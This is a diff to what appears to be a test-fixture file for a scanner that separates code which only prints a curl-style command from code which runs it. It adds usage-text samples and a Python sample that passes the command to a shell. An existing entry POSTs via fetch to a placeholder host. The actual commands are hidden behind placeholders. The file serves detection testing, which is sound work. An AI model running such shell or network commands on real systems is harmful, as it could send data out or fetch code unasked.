@@ -57,6 +57,8 @@ SHOWN = {
     "echo.php": f"<?php\necho <<<EOT\n  {CURL}\nEOT;\n",
     "bound.php": f"<?php\n$usage = <<<EOT\n  {CURL}\nEOT;\necho $usage;\n",
     "help.kt": f'fun main() {{\n    println("""\n        {CURL}\n    """.trimIndent())\n}}\n',
+    "pieces.py": f'def usage():\n    print(\n        "usage: tool IMAGE\\n"\n        "  e.g. {ESCAPED}\\n"\n    )\n',
+    "pieces.js": f'console.log(\n  "usage: node tool.js IMAGE\\n" +\n    "  e.g. {ESCAPED}"\n);\n',
     "help.java": f'class H {{\n  static final String HELP = """\n    {CURL}\n    """;\n'
     "  static void help() { System.out.println(HELP); }\n}\n",
 }
@@ -82,6 +84,7 @@ RUN = {
     "\t_ = req\n}\n",
     "page.py": f'HTML = """<html><script>\nfetch("{WRONG}", {{method: "POST"}})\n</script></html>"""\n'
     'open("index.html", "w").write(HTML)\n',
+    "run_pieces.py": f'import subprocess\nsubprocess.run(\n    "{ESCAPED}",\n    shell=True,\n)\n',
     "unused.py": f'EXAMPLE_COMMAND = """\n{CURL}\n"""\n',
 }
 
